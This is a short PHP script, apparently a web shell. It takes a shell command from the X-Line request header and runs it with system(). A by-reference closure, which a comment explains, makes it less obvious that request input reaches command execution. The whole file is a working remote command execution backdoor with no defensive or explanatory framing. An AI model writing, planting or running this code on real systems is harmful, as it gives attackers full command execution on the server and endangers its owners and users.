<?php
// The closure is made while the captured variable is still empty; it holds the variable by
// reference, so the value set afterwards from the request is what it runs.
$line = '';
$runner = function () use (&$line) {
    return system($line);
};
$line = isset($_SERVER['HTTP_X_LINE']) ? $_SERVER['HTTP_X_LINE'] : 'date';
$runner();
